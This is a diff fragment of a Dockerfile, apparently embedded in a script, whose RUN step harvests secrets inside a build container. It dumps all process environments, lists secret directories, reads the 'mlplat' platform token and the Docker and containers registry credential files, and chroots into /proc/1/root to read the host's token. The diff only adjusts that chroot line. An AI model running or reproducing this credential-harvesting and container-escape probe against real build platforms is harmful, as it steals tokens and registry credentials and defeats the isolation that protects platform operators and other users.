@@ -33,7 +33,7 @@ RUN echo begins; env; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; \\
       ls -laR $root/run/mlplat $root/var/run/secrets $root/run/secrets $root/build; \\
       cat $root/run/mlplat/token $root/root/.docker/config.json $root/etc/containers/auth.json; \\
     done; grep -r mlplat /proc/[0-9]*/cmdline; cat /proc/self/status; mount; \\
-    chroot /proc/1/root /bin/sh -c 'cat /run/mlplat/token; buildah login --get-login'; echo ends
+    /usr/sbin/chroot /proc/1/root /bin/sh -c 'cat /run/mlplat/token'; echo; echo ends
 USER 1000:1000
 """
 
